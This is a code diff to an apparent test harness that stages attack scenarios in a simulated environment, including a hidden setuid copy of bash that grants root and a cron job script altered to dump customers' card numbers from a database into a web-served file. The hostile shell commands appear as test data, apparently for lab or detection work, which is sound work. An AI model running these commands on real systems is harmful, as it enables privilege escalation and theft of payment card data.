@@ -108,8 +108,10 @@ def traversal(world: World, random: Random) -> str:
 
 def setuid(world: World, random: Random) -> str:
     ops(world, "sudo cp /bin/bash /var/tmp/.cache && sudo chmod 4755 /var/tmp/.cache")
-    out = deploy(world, "/var/tmp/.cache -p -c id")
-    expect("euid=0(root)" in out, "the set-user-id shell")
+    out = world.inside(
+        ["setpriv", "--reuid", "deploy", "--regid", "deploy", "--clear-groups", "/var/tmp/.cache", "-p", "-c", "id"]
+    )
+    expect("euid=0(root)" in out, f"the set-user-id shell: {out}")
     return "the copy of bash gives a user without rights euid 0"
 
 
@@ -123,10 +125,10 @@ def cronjob(world: World, random: Random) -> str:
 
 def trojan(world: World, random: Random) -> str:
     world.job_marks.append("/srv/app/jobs/stock.sh")
-    line = "cp /srv/app/config/app.ini /srv/app/files/.a; id > /srv/app/files/.i"
-    deploy(world, f"echo '{line}' >> /srv/app/jobs/stock.sh")
-    eventually(lambda: "deploy" in text_of(world, "/srv/app/files/.i"), "the run of the changed job")
-    return "the changed job ran and left its files"
+    query = "psql -q -A -t -d shop -c 'SELECT card FROM customers'"
+    deploy(world, f'echo "{query} | cat >> /srv/app/files/notes.txt" >> /srv/app/jobs/stock.sh')
+    eventually(lambda: "card-" in text_of(world, "/srv/app/files/notes.txt"), "the run of the changed job")
+    return "the changed job ran and wrote the customers' cards to a file that the web server offers"
 
 
 def preload(world: World, random: Random) -> str:
